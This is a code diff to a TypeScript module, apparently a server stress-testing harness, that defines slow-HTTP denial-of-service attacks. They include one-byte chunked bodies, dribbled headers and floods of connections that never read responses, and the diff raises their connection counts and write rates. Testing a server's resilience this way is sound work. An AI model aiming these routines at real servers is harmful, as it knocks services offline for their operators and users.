@@ -8,6 +8,8 @@ import type { Victim } from './api.ts';
 /** Below the limit of a request's head. */
 const BLANKS = 15_000;
 const MIB = 1024 * 1024;
+/** The kernel takes some of an answer that its client does not read. */
+const UNREAD_CONNECTIONS = 40;
 
 /** An attack that goes on until it is stopped. */
 export type Stranger = (victim: Victim, stop: AbortSignal) => Promise<void>;
@@ -58,13 +60,13 @@ const backtrackingHeader: Stranger = (victim, stop) =>
     every(100, () => socket.write(text));
   });
 
-/** Bodies of one byte a chunk, a megabyte a second. */
+/** Bodies of one byte a chunk: a megabyte of body a second. */
 const tinyChunks: Stranger = (victim, stop) =>
-  connections(victim, stop, 4, (socket, every) => {
+  connections(victim, stop, 8, (socket, every) => {
     socket.resume();
     socket.write(head(victim, 'POST', 'transfer-encoding: chunked\r\n'));
     const piece = '1\r\nx\r\n'.repeat(4_096);
-    every(100, () => {
+    every(30, () => {
       if (socket.writableLength < MIB) socket.write(piece);
     });
   });
@@ -103,7 +105,7 @@ export function unreadAnswers(endpoints: readonly string[]): Stranger {
   return (victim, stop) =>
     Promise.all(
       endpoints.map((bystander) =>
-        connections({ ...victim, bystander }, stop, 8, (socket) => {
+        connections({ ...victim, bystander }, stop, UNREAD_CONNECTIONS, (socket) => {
           socket.pause();
           socket.write(head({ ...victim, bystander }, 'GET', ''));
         }),
